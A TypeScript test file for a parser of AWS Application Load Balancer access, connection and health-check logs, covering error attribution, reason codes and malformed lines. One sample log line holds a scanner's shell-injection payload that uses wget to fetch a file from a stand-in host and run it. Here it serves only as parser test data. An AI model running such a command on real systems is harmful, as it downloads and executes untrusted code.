import { describe, expect, test } from 'vitest'
import { failureOf, readLine } from './read-line.ts'

const GROUP = 'arn:aws:elasticloadbalancing:eu-west-1:111122223333:targetgroup/shop-api/6d0ecf831eec9f09'
const REQUEST = '"GET https://shop.example.com:443/api/orders/17?x=1 HTTP/2.0"'

interface Line {
  readonly type?: string
  readonly client?: string
  readonly target?: string
  /** The three processing times, status and the target's status. */
  readonly middle?: string
  readonly request?: string
  readonly agent?: string
  readonly group?: string
  readonly domain?: string
  readonly priority?: string
  readonly created?: string
  readonly actions?: string
  readonly reason?: string
  readonly tail?: string
}

/** A line as of 2025, ended at 10:02:10.914201. */
function alb(line: Line = {}): string {
  const { type = 'https', client = '198.51.100.7:52114', target = '10.0.0.12:8080', middle = '0.001 0.042 0.000 200 200' } = line
  const { request = REQUEST, agent = '"Sample/1.0 (X11; Linux)"', group = GROUP, domain = 'shop.example.com' } = line
  const { priority = '10', created = '2026-11-01T10:02:10.871000Z', actions = 'forward', reason = '-' } = line
  const { tail = '"10.0.0.12:8080" "200" "-" "-" TID_0123456789abcdef0123456789abcdef "-" "-" "-"' } = line
  return `${type} 2026-11-01T10:02:10.914201Z app/shop-lb/0f1e2d3c4b5a6978 ${client} ${target} ${middle} 512 277 ${request} ${agent} ECDHE-RSA-AES128-GCM-SHA256 TLSv1.3 ${group} "Root=1-6907a1b2-0123456789abcdef01234567" "${domain}" "session-reused" ${priority} ${created} "${actions}" "-" "${reason}" ${tail}`
}

const AT_ONCE = '2026-11-01T10:02:10.914000Z'

describe('who made the error, where and how', () => {
  test.for<[title: string, line: Line, failure: string]>([
    ['the target answered', { middle: '0.001 0.042 0.000 503 503' }, 'origin answer status'],
    ['not connected, at once', { middle: '-1 -1 -1 502 -', created: AT_ONCE }, 'proxy connect,tls'],
    [
      'not connected, after the time of ARP',
      { middle: '-1 -1 -1 502 -', created: '2026-11-01T10:02:07.914000Z' },
      'proxy connect,tls',
    ],
    ['a connection kept open was closed', { middle: '0.003 0.000 -1 502 -' }, 'proxy send,wait,receive'],
    ['closed while it worked', { middle: '0.001 4.205 -1 502 -' }, 'proxy send,wait,receive'],
    ['a good answer that could not be passed on', { middle: '0.001 0.042 -1 502 200' }, 'proxy receive'],
    ['no target registered', { target: '-', middle: '-1 -1 -1 503 -', created: AT_ONCE }, 'proxy pick empty'],
    [
      'a rule answered',
      { target: '-', middle: '-1 -1 -1 503 -', group: '-', actions: 'fixed-response' },
      'proxy admit status (fixed-response)',
    ],
    [
      'a rule answered behind the firewall',
      { target: '-', middle: '-1 -1 -1 503 -', group: '-', actions: 'waf,fixed-response', priority: '0', domain: '*' },
      'proxy admit status (fixed-response)',
    ],
    ['the connect timer', { middle: '-1 -1 -1 504 -', created: '2026-11-01T10:02:00.912000Z' }, 'proxy connect,tls timeout'],
    ['the idle timer', { middle: '0.000 -1 -1 504 -', created: '2026-11-01T10:01:10.913000Z' }, 'proxy send,wait timeout'],
    [
      'the idle timer, written as the waiting time',
      { middle: '0.000 60.001 -1 504 -', created: '2026-11-01T10:01:10.913000Z' },
      'proxy wait,receive timeout',
    ],
    [
      'a timer of a length that is not the connect timer, not dispatched',
      { middle: '-1 -1 -1 504 -', created: '2026-11-01T10:01:40.912000Z' },
      'proxy connect,tls,send,wait timeout',
    ],
    [
      'the firewall did not answer',
      { target: '-', middle: '-1 -1 -1 500 -', actions: 'waf-failed' },
      'proxy admit error (waf-failed)',
    ],
    [
      'the rules could not be evaluated',
      { target: '-', middle: '-1 -1 -1 500 -', priority: '-1', actions: '-' },
      'proxy admit error',
    ],
    ['an encoding it does not know', { target: '-', middle: '-1 -1 -1 501 -', actions: '-' }, 'proxy admit'],
    ['a version it does not speak', { target: '-', middle: '-1 -1 -1 505 -', actions: '-' }, 'proxy admit'],
    ['a redirect that is too long', { target: '-', middle: '-1 -1 -1 507 -', actions: 'redirect', group: '-' }, 'proxy admit'],
    ['failed with a target it had asked', { middle: '0.001 -1 -1 500 -' }, 'proxy connect,tls,send,wait,receive error'],
    [
      'a transform failed',
      { middle: '-1 -1 -1 500 -', target: '-', tail: '"-" "-" "-" "-" TID_a "-" "-" "TransformRegexSyntaxError"' },
      'proxy admit error (TransformRegexSyntaxError)',
    ],
    [
      'a transform went well',
      { middle: '0.001 0.042 -1 502 -', tail: '"-" "-" "-" "-" TID_a "shop.example.com" "/x" "TransformSuccess"' },
      'proxy send,wait,receive',
    ],
    ['460: the client left while a connection was made', { middle: '-1 -1 -1 460 -' }, 'none'],
    ['463: too many addresses in X-Forwarded-For', { target: '-', middle: '-1 -1 -1 463 -' }, 'none'],
    ['464: the group speaks another protocol', { target: '-', middle: '-1 -1 -1 464 -' }, 'none'],
    [
      '561: the identity provider said no',
      { target: '-', middle: '-1 -1 -1 561 -', actions: 'authenticate' },
      'proxy admit error',
    ],
  ])('%s', ([, line, failure]) => {
    expect(failureOf(alb(line))).toBe(failure)
  })
})

describe('every reason that AWS documents', () => {
  const OWN = 'proxy admit error'
  const reasons: Record<string, string> = {
    AuthInvalidAWSALBAuthNonce: OWN,
    AuthInvalidCookie: OWN,
    AuthInvalidGrantError: OWN,
    AuthInvalidIdToken: OWN,
    AuthInvalidStateParam: OWN,
    AuthInvalidTokenResponse: OWN,
    AuthInvalidUserinfoResponse: OWN,
    AuthMissingAWSALBAuthNonce: OWN,
    AuthMissingCodeParam: OWN,
    AuthMissingHostHeader: OWN,
    AuthMissingStateParam: OWN,
    AuthTokenEpRequestFailed: OWN,
    AuthTokenEpRequestTimeout: OWN,
    AuthUnhandledException: OWN,
    AuthUserinfoEpRequestFailed: OWN,
    AuthUserinfoEpRequestTimeout: OWN,
    AuthUserinfoResponseSizeExceeded: OWN,
    AWSALBTGCookieInvalid: OWN,
    WAFConnectionError: OWN,
    WAFConnectionTimeout: OWN,
    WAFResponseReadTimeout: OWN,
    WAFServiceError: OWN,
    WAFUnhandledException: OWN,
    WeightedTargetGroupsUnhandledException: OWN,
    LambdaUnhandledException: OWN,
    LambdaUnhandled: 'origin answer status',
    LambdaThrottling: 'origin answer status',
    LambdaEC2ThrottledException: 'origin answer status',
    LambdaEC2UnexpectedException: 'origin answer status',
    LambdaENILimitReachedException: 'origin answer status',
    LambdaSubnetIPAddressLimitReachedException: 'origin answer status',
    LambdaServiceException: 'origin answer status',
    LambdaInvalidResponse: 'proxy receive malformed',
    LambdaResponseTooLarge: 'proxy receive malformed',
    LambdaRequestTooLarge: 'proxy send',
    LambdaBadRequest: 'proxy send',
    LambdaConnectionTimeout: 'proxy connect timeout',
    LambdaAccessDenied: 'proxy connect refused',
    LambdaEC2AccessDeniedException: 'proxy connect refused',
    LambdaInvalidRuntimeException: 'proxy connect refused',
    LambdaInvalidSecurityGroupIDException: 'proxy connect refused',
    LambdaInvalidSubnetIDException: 'proxy connect refused',
    LambdaInvalidZipFileException: 'proxy connect refused',
    LambdaKMSAccessDeniedException: 'proxy connect refused',
    LambdaKMSDisabledException: 'proxy connect refused',
    LambdaKMSInvalidStateException: 'proxy connect refused',
    LambdaKMSNotFoundException: 'proxy connect refused',
    LambdaResourceNotFound: 'proxy connect refused',
  }
  test.for(Object.entries(reasons))('%s', ([reason, failure]) => {
    expect(failureOf(alb({ target: '-', middle: '-1 -1 -1 502 -', reason }))).toBe(`${failure} (${reason})`)
  })

  test('none of them is a failure of a request that was not answered with 5xx', () => {
    expect(failureOf(alb({ target: '-', middle: '-1 -1 -1 401 -', reason: 'AuthInvalidCookie' }))).toBe('none')
    expect(failureOf(alb({ target: '-', middle: '0.000 0.010 -1 413 -', reason: 'LambdaRequestTooLarge' }))).toBe('none')
  })

  test('a word that AWS does not document leaves what the times tell', () => {
    expect(failureOf(alb({ middle: '0.000 60.000 -1 504 -', reason: 'TargetTimeout' }))).toBe(
      'proxy wait,receive timeout (TargetTimeout)',
    )
    expect(failureOf(alb({ middle: '0.000 4.200 -1 502 -', reason: 'TargetFailure' }))).toBe(
      'proxy send,wait,receive (TargetFailure)',
    )
  })
})

describe('what clients send', () => {
  test.for<[title: string, line: Line, expected: object]>([
    ['IPv6', { client: '[2001:db8::7]:52114' }, { client: '2001:db8::7' }],
    ['IPv6 without brackets', { client: '2001:db8::7:52114' }, { client: '2001:db8::7' }],
    ['a target with IPv6', { target: '[2001:db8::12]:8080' }, { upstream: '[2001:db8::12]:8080' }],
    ['a blank behind the version', { request: '"GET http://shop.example.com:80/ HTTP/1.0 "' }, { method: 'GET', path: '/' }],
    ['no path', { request: '"GET https://shop.example.com HTTP/2.0"' }, { path: '/', host: 'shop.example.com' }],
    ['no version', { request: '"GET http://shop.example.com:80/a"' }, { method: 'GET', path: '/a' }],
    ['an IPv6 host', { request: '"GET http://[2001:db8::1]:80/p HTTP/1.1"' }, { path: '/p', host: '[2001:db8::1]' }],
    [
      'a method of its own',
      { request: '"SSTP_DUPLEX_POST https://192.0.2.1:443/sra_{BA19}/ HTTP/1.1"' },
      { method: 'SSTP_DUPLEX_POST' },
    ],
    [
      'an option for a method',
      { request: '"--location https://shop.example.com/ HTTP/2.0"' },
      { path: '/', host: 'shop.example.com' },
    ],
    ['a quote in the path', { request: '"GET https://shop.example.com:443/"x" y HTTP/1.1"' }, { path: '/"x"', status: 200 }],
    ['escaped quotes in the agent', { agent: '"\\"Sample\\" 1.0 \\x22a\\x22"' }, { time: '2026-11-01T10:02:10.871Z' }],
    [
      'raw quotes in the agent',
      { agent: '"a "b" c "d e" f"' },
      { time: '2026-11-01T10:02:10.871Z', requestId: 'Root=1-6907a1b2-0123456789abcdef01234567' },
    ],
    ['an agent that ends with a backslash', { agent: '"a\\"' }, { time: '2026-11-01T10:02:10.871Z' }],
    ['an empty agent', { agent: '""' }, { time: '2026-11-01T10:02:10.871Z' }],
    ['a domain that begins with a blank', { request: '"- - -"', domain: ' shop.example.com' }, { host: 'shop.example.com' }],
    [
      'gRPC',
      { type: 'grpcs', request: '"POST https://shop.example.com:443/shop.Orders/Get HTTP/2.0"' },
      { path: '/shop.Orders/Get' },
    ],
    [
      'several targets in a list',
      { tail: '"10.0.0.11:8080 10.0.0.12:8080" "502 200" "-" "-" TID_a "-" "-" "-"' },
      { upstream: '10.0.0.12:8080', upstreamStatus: 200 },
    ],
    ['lists without quotes', { tail: '10.0.0.12:8080 200 "-" "-"' }, { upstreamStatus: 200 }],
    ['no action', { actions: '' }, { status: 200 }],
    ['a suspicious request', { tail: '"-" "-" "Severe" "MultipleContentLength" TID_a' }, { status: 200 }],
  ])('%s', ([, line, expected]) => {
    expect(readLine(alb(line))).toMatchObject(expected)
  })

  test.for([
    ['"- http://shop.example.com:80- -"', 'shop.example.com'],
    ['"- http://shop.example.com:80- "', 'shop.example.com'],
    ['"- - -"', undefined],
    ['"- - - "', undefined],
    ['"-"', undefined],
  ] as const)('a request that could not be read: %s', ([request, host]) => {
    const entry = readLine(alb({ target: '-', middle: '-1 -1 -1 400 -', request, domain: '*', group: '-', actions: '-' }))
    expect(entry).toMatchObject({ status: 400, client: '198.51.100.7' })
    expect(entry).not.toHaveProperty('method')
    expect(entry).not.toHaveProperty('path')
    expect((entry as Record<string, unknown>)['host']).toBe(host)
  })
})

test.for([12, 14, 17, 18, 20, 21, 23, 24, 25, 27, 29, 30, 33, 34, 36, 40])(
  'a line of %i fields, as they were and will be',
  (count) => {
    const all = `${alb()} 203.0.113.60 "-" "-" new "fields of" tomorrow "x"`
    const fields = all.match(/"[^"]*"|\S+/g) ?? []
    const entry = readLine(fields.slice(0, count).join(' '))
    expect(entry).toMatchObject({ status: 200, duration: 0.043, upstream: '10.0.0.12:8080', upstreamStatus: 200 })
    expect(entry).toMatchObject(count > 12 ? { path: '/api/orders/17', host: 'shop.example.com' } : {})
  },
)

describe("lines of other tools' tests, with other addresses", () => {
  test.for<[tool: string, line: string, expected: object]>([
    [
      'Filebeat: the client left after 5.7 s without a connection',
      'http 2019-10-11T15:01:12.376735Z app/shop-lb/c86a326e7dc14222 198.51.100.41:56398 10.0.0.192:80 -1 -1 -1 460 - 125 0 "GET http://shop.example.com:80/ HTTP/1.1" "curl/7.58.0" - - arn:aws:elasticloadbalancing:eu-central-1:111122223333:targetgroup/shop/8f04c4fe71f5f794 "Root=1-5da09932-2c342a443bfb96249aa50ed7" "-" "-" 0 2019-10-11T15:01:06.657000Z "forward" "-" "-"',
      { status: 460, duration: 5.719, upstream: '10.0.0.192:80' },
    ],
    [
      'Filebeat: the connect timer',
      'http 2019-10-11T15:01:50.492440Z app/shop-lb/c86a326e7dc14222 198.51.100.41:56488 10.0.1.107:80 -1 -1 -1 504 - 125 308 "GET http://shop.example.com:80/ HTTP/1.1" "curl/7.58.0" - - arn:aws:elasticloadbalancing:eu-central-1:111122223333:targetgroup/shop/8f04c4fe71f5f794 "Root=1-5da09954-2c342a443bfb96249aa50ed7" "-" "-" 0 2019-10-11T15:01:40.491000Z "forward" "-" "-"',
      { status: 504, duration: 10.001, failure: { by: 'proxy', phases: ['connect', 'tls'], how: 'timeout' } },
    ],
    [
      'Vector: times that a target alone can have, and no target: a function',
      'http 2018-11-30T22:23:00.186641Z app/shop-lb/50dc6c495c0c9188 198.51.100.39:2817 - 0.000 0.001 0.000 200 200 34 366 "GET http://shop.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:111122223333:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "-" "-" "-" "-" "-"',
      { upstream: 'my-targets', upstreamStatus: 200, duration: 11.822, upstreamDuration: 0.001 },
    ],
    [
      'AWS: a WebSocket',
      'ws 2018-07-02T22:23:00.186641Z app/shop-lb/50dc6c495c0c9188 10.0.0.140:40914 10.0.1.192:8010 0.001 0.003 0.000 101 101 218 587 "GET http://10.0.0.30:80/ HTTP/1.1" "-" - - arn:aws:elasticloadbalancing:us-east-2:111122223333:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.1.192:8010" "101" "-" "-"',
      { status: 101, time: '2018-07-02T22:22:48.364Z', upstreamStatus: 101 },
    ],
    [
      'Beats: a domain without quotes',
      'https 2018-07-02T22:23:00.186641Z app/shop-lb/50dc6c495c0c9188 198.51.100.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://shop.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:111122223333:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" shop.example.com arn:aws:acm:us-east-2:111122223333:certificate/12345678',
      { status: 200, duration: 0.171, host: 'shop.example.com' },
    ],
    [
      'Elastic: a blank in the query',
      'http 2022-05-12T06:41:29.051646Z app/shop-lb/3011821a43ee0c5e 203.0.113.20:41542 - -1 -1 -1 301 - 233 390 "GET http://192.0.2.1:80/shell?cd+/tmp;wget+ example.com/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://192.0.2.1:443/shell?cd+/tmp;wget+ example.com/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri"',
      { status: 301, path: '/shell', host: '192.0.2.1', duration: 0 },
    ],
    [
      'Elastic: answered, but what was asked could not be read',
      'http 2025-05-01T11:24:32.748149Z app/shop-lb/abcd1234efab5678 203.0.113.1:57273 - -1 -1 -1 200 - 0 272 "- http://shop.example.com:80-/ " "-" - - - "-" "-" "-" - 2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000',
      { status: 200, host: 'shop.example.com', duration: 0.028 },
    ],
    [
      'elb-log-analyzer: another name',
      'h2 2015-11-07T18:45:33.575333Z elb1 198.51.100.105:55857 10.0.2.143:80 0.000025 0.0003 0.000023 200 200 0 3764 "GET http://shop.example.com:80/favicons/favicon-160x160.png HTTP/1.1" "Mozilla/5.0 (Linux; Android 4.4.2)" - - arn:aws:elasticloadbalancing:us-west-2:111122223333:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354"',
      {
        status: 200,
        path: '/favicons/favicon-160x160.png',
        client: '198.51.100.105',
        upstream: '10.0.2.143:80',
        upstreamStatus: 200,
      },
    ],
    [
      'elb-log-analyzer: no target',
      'https 2015-11-07T18:45:33.559871Z elb1 198.51.100.105:4586 - -1 -1 -1 503 - 0 0 "GET https://shop.example.com:443/ HTTP/1.1" "Mozilla/5.0 (Windows NT 5.1)" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2',
      { status: 503, host: 'shop.example.com' },
    ],
    [
      '36 fields, of 2026',
      'http 2026-09-23T07:15:26.379899Z app/shop-lb/98e3a879de9d6b42 203.0.113.224:21790 - -1 -1 -1 404 - 127 162 "GET http://shop.example.com:80/ HTTP/1.0" "Mozilla/5.0 (compatible; Crawler/1.0; +https://www.example.com/crawler)" - - - "Root=1-6ab37c8e-5afd1aca560fd3a825162993" "-" "-" 0 2026-09-23T07:15:26.379000Z "fixed-response" "-" "-" "-" "-" "-" "-" TID_558e26a7adede44b9fdb98006014afcf "-" "-" "-" 203.0.113.60 "-" "-"',
      { status: 404, duration: 0 },
    ],
  ])('%s', ([, line, expected]) => {
    expect(readLine(line)).toMatchObject({ ...expected, format: 'alb' })
  })
})

describe('lines that hold no request', () => {
  const TEST = 'Enable AccessLog for ELB: shop-lb at 2026-11-01T10:02:10.914Z'
  test.for([
    ['the test file', TEST, "AWS's test file: no request on this line"],
    [
      'a connection',
      '2026-09-23T07:11:27.691358Z 198.51.100.40 64326 443 TLSv1.2 ECDHE-ECDSA-AES128-GCM-SHA256 0.337 "-" - - Success TID_9f39d9aa6a47774d97089313f949866b secp256r1 app/shop-lb/98e3a879de9d6b42 203.0.113.60',
      'connection log of an Application Load Balancer: no request on this line',
    ],
    [
      'a connection without TLS, fields of 2023',
      '2023-11-21T07:11:32.882572Z 198.51.100.159 61814 80 - - - "-" - - -',
      'connection log of an Application Load Balancer: no request on this line',
    ],
    [
      'a client without a good certificate, from Elastic',
      '2024-10-04T17:05:15.514108Z 198.51.100.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 - "CN=example.com,O=endEntity,L=Seattle,ST=Washington,C=US" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Failed:ClientCertUntrusted',
      'connection log of an Application Load Balancer: the certificate of a client was refused, no request',
    ],
    [
      'IPv6, a client without a good certificate',
      '2023-11-21T07:11:32.882572Z 2001:db8::7 61814 443 TLSv1.3 TLS_AES_128_GCM_SHA256 0.012 "CN=shop client,O=Example" NotBefore=2022-11-21T00:00:00Z;NotAfter=2023-11-20T00:00:00Z FEF257372D5C14D4 Failed:ClientCertExpired',
      'connection log of an Application Load Balancer: the certificate of a client was refused, no request',
    ],
    [
      'a health check',
      'http 2025-10-31T12:44:59.875678Z 0.019584011 172.31.20.97:80 HCLogsTestIPs PASS 200 -',
      'health check log of an Application Load Balancer: no request on this line',
    ],
    [
      'a health check that failed',
      'http 2025-10-31T12:44:58.901409Z 1.121980746 172.31.31.9:80 HCLogsTestIPs FAIL 502 TargetError',
      'health check log of an Application Load Balancer: a target failed its check, no request',
    ],
    [
      'no status',
      alb({ target: '-', middle: '-1 -1 -1 - -', request: '"- - -"' }),
      'no status: the connection ended before there was one',
    ],
    [
      'no status of HTTP/2',
      alb({ target: '-', middle: '-1 -1 -1 000 -' }),
      'no status: the connection ended before there was one',
    ],
    ['a line that was cut', alb().slice(0, 100), 'cut off: 6 fields, an Application Load Balancer logs 12 or more'],
    ['a date that is none', alb().replace('2026-11', '2026-13'), 'not a date: time'],
    ['no times', alb({ middle: 'a 0.042 0.000 200 200' }), 'not numbers: the three processing times'],
    ['a status that is none', alb({ middle: '0.001 0.042 0.000 2000 200' }), 'not three digits: elb_status_code'],
  ] as const)('%s', ([, line, reason]) => {
    expect(readLine(line)).toBe(reason)
  })
})
